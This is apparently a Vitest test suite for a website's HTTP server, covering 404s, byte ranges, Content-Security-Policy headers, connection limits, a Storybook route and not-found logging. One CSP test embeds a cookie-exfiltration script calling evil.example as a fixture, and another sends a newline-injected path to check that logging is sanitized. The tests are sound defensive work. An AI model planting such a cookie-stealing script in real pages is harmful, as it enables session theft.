// The site server over HTTP, on a small site of its own (no build needed).
import { chmod, mkdir, mkdtemp, rm, unlink, writeFile } from "node:fs/promises";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { defaultConfig } from "@marketing/widgets";
import { createSiteServer, type SiteServer, type SiteServerOptions } from "./site-server";
import { INLINE_SCRIPTS_FILE, scriptHash } from "./site-csp";
import { writeSite, type SiteDirs } from "./test-support/site-fixture";
import { holdSlowClients, rawStatus } from "./test-support/clients";

let dirs: SiteDirs;
const servers: SiteServer[] = [];

beforeEach(async () => {
  dirs = await writeSite(await mkdtemp("/tmp/site-server-test-"));
});

afterEach(async () => {
  for (const server of servers.splice(0)) {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
  await rm(dirs.root, { recursive: true, force: true });
});

async function serve(options: SiteServerOptions = {}): Promise<{ url: string; port: number }> {
  const server = createSiteServer({ ...dirs, widgetConfig: defaultConfig, ...options });
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, port };
}

describe("a file that changed since start-up", () => {
  it("answers 404 for a page or asset removed by a rebuild, and keeps serving", async () => {
    const { url } = await serve();
    expect((await fetch(`${url}/assets/app-1.js`)).status).toBe(200);
    expect((await fetch(`${url}/about`)).status).toBe(200);
    await unlink(`${dirs.siteDir}/assets/app-1.js`);
    await rm(`${dirs.siteDir}/about`, { recursive: true });
    await unlink(`${dirs.embedDir}/widgets.js`);
    const gone = await fetch(`${url}/assets/app-1.js`);
    expect(gone.status).toBe(404);
    expect(await gone.text()).toContain("Page not found");
    expect((await fetch(`${url}/about`)).status).toBe(404);
    expect((await fetch(`${url}/embed/widgets.js`)).status).toBe(404);
    expect((await fetch(`${url}/`)).status).toBe(200);
  });

  it("serves a file added by a rebuild", async () => {
    const { url } = await serve();
    await writeSite(dirs.root, { "assets/app-2.js": "export {};" });
    expect((await fetch(`${url}/assets/app-2.js`)).status).toBe(200);
  });

  // Root reads any file whatever its mode: this one runs as an ordinary user (as npm start does).
  it.skipIf(process.getuid?.() === 0)("answers 500 for a file it may not read", async () => {
    const { url } = await serve();
    await chmod(`${dirs.siteDir}/assets/app-1.js`, 0o000);
    expect((await fetch(`${url}/assets/app-1.js`)).status).toBe(500);
    expect((await fetch(`${url}/`)).status).toBe(200);
  });
});

describe("byte ranges", () => {
  const get = (url: string, range: string) => fetch(url, { headers: { Range: range } });

  it("answers 416 with the size for a range past the end", async () => {
    const { url } = await serve();
    const size = (await (await fetch(`${url}/robots.txt`)).arrayBuffer()).byteLength;
    for (const range of [`bytes=${size}-`, `bytes=${size + 10}-${size + 20}`, "bytes=-0"]) {
      const res = await get(`${url}/robots.txt`, range);
      expect(res.status, range).toBe(416);
      expect(res.headers.get("content-range"), range).toBe(`bytes */${size}`);
      expect(await res.text()).toBe("");
    }
  });

  it("answers 206 with exactly the bytes asked for", async () => {
    const { url } = await serve();
    const whole = await (await fetch(`${url}/robots.txt`)).text();
    const cases: Array<[string, string, string]> = [
      ["bytes=0-0", whole.slice(0, 1), `bytes 0-0/${whole.length}`],
      ["bytes=2-5", whole.slice(2, 6), `bytes 2-5/${whole.length}`],
      [
        "bytes=-4",
        whole.slice(-4),
        `bytes ${whole.length - 4}-${whole.length - 1}/${whole.length}`,
      ],
      ["bytes=3-99999", whole.slice(3), `bytes 3-${whole.length - 1}/${whole.length}`],
    ];
    for (const [range, body, contentRange] of cases) {
      const res = await get(`${url}/robots.txt`, range);
      expect(res.status, range).toBe(206);
      expect(res.headers.get("content-range"), range).toBe(contentRange);
      expect(await res.text(), range).toBe(body);
    }
    // Malformed or several ranges: the whole file, as RFC 9110 allows.
    for (const range of ["bytes=5-2", "bytes=0-1,3-4", "items=0-1"]) {
      const res = await get(`${url}/robots.txt`, range);
      expect(res.status, range).toBe(200);
      expect(await res.text()).toBe(whole);
    }
  });
});

describe("a page's script policy", () => {
  it("allows the inline scripts the build listed, never one found in the page besides them", async () => {
    const own = 'document.documentElement.dataset.js="1"';
    const slipped = "fetch('https://evil.example/?' + document.cookie)";
    await writeSite(dirs.root, {
      "blog/a-post/index.html": `<!DOCTYPE html><html><head><script>${own}</script></head><body><article><script>${slipped}</script></article></body></html>`,
    });
    await writeFile(join(dirs.root, INLINE_SCRIPTS_FILE), JSON.stringify([scriptHash(own)]));
    const { url } = await serve();
    for (const path of ["/blog/a-post", "/about", "/nowhere"]) {
      const policy = (await fetch(`${url}${path}`)).headers.get("content-security-policy") ?? "";
      const scriptSrc = /script-src ([^;]*)/.exec(policy)?.[1] ?? "";
      expect(scriptSrc, path).toContain(scriptHash(own));
      expect(scriptSrc, path).not.toContain(scriptHash(slipped));
      expect(scriptSrc, path).not.toContain("unsafe-inline");
    }
  });
});

describe("the embed example page", () => {
  it("carries a policy built from its own configuration block, framed by the site only", async () => {
    const { url } = await serve();
    const res = await fetch(`${url}/examples/embed.html`);
    expect(res.status).toBe(200);
    const policy = res.headers.get("content-security-policy") ?? "";
    expect(policy).toContain("frame-ancestors 'self'");
    expect(policy).toContain("object-src 'none'");
    expect(policy).toMatch(/script-src 'self'[^;]*https:\/\/assets\.calendly\.com/);
    // The company's API its block names: read from, pictures shown from, forms posted to.
    for (const directive of ["connect-src", "img-src", "form-action"])
      expect(new RegExp(`${directive} ([^;]*)`).exec(policy)?.[1], directive).toContain(
        "https://www.example.com",
      );
    expect(policy).not.toContain("unsafe-eval");
    // Its script and stylesheet are files, not pages: no policy of their own.
    expect((await fetch(`${url}/examples/embed.css`)).headers.get("content-security-policy")).toBe(
      null,
    );
  });
});

describe("slow and numerous clients", () => {
  it("drops a client that does not finish its headers in time", async () => {
    const { port } = await serve({ limits: { headersTimeoutMs: 300, requestTimeoutMs: 300 } });
    const clients = await holdSlowClients(port, 5);
    const closed = await clients.closedWithin(3000);
    expect(closed).toBe(5);
  });

  it("closes connections past its cap on arrival, and answers again once they go", async () => {
    const { port, url } = await serve({ limits: { maxConnections: 10 } });
    const clients = await holdSlowClients(port, 30);
    // Those past the cap were closed by the server; the first ten are held.
    await expect.poll(() => clients.closed(), { timeout: 5000 }).toBe(20);
    expect(await clients.closedWithin(300)).toBe(20);
    clients.destroy();
    await expect.poll(async () => (await fetch(url)).status, { timeout: 3000 }).toBe(200);
    expect(await rawStatus(port, "GET /robots.txt HTTP/1.1\r\nHost: x\r\n\r\n")).toBe(200);
  });
});

describe("the designers' Storybook at /storybook/", () => {
  it("serves the static build beside the site, kept out of search engines", async () => {
    const storybookDir = `${dirs.root}/storybook`;
    await mkdir(storybookDir);
    await writeFile(
      `${storybookDir}/index.html`,
      '<!doctype html><meta name="robots" content="noindex" /><title>Storybook</title>',
    );
    await writeFile(`${storybookDir}/index.json`, '{"entries":{}}');
    const { url } = await serve({ storybookDir });
    const moved = await fetch(`${url}/storybook`, { redirect: "manual" });
    expect(moved.status).toBe(301);
    expect(moved.headers.get("location")).toBe("/storybook/");
    const manager = await fetch(`${url}/storybook/`);
    expect(manager.status).toBe(200);
    expect(manager.headers.get("x-robots-tag")).toBe("noindex, nofollow");
    expect(await manager.text()).toContain("<title>Storybook</title>");
    expect((await fetch(`${url}/storybook/index.json`)).headers.get("x-robots-tag")).toBe(
      "noindex, nofollow",
    );
  });

  it("says how to get it while it is not built", async () => {
    const { url } = await serve({ storybookDir: `${dirs.root}/no-storybook` });
    const missing = await fetch(`${url}/storybook/`);
    expect(missing.status).toBe(404);
    expect(await missing.text()).toContain("npm run build-storybook");
  });
});

describe("a page not found", () => {
  it("is logged with its path and referrer, never its query, one JSON line each", async () => {
    const lines: string[] = [];
    const { url } = await serve({ logNotFound: (line) => lines.push(line) });
    expect((await fetch(`${url}/`)).status).toBe(200);
    const missing = await fetch(`${url}/old-offer%0Aforged?email=ada@example.com`, {
      headers: { referer: "https://news.example/issue-3?token=secret" },
    });
    expect(missing.status).toBe(404);
    expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual([
      {
        event: "page_not_found",
        path: "/old-offer%0Aforged",
        referrer: "https://news.example/issue-3",
      },
    ]);
  });
});
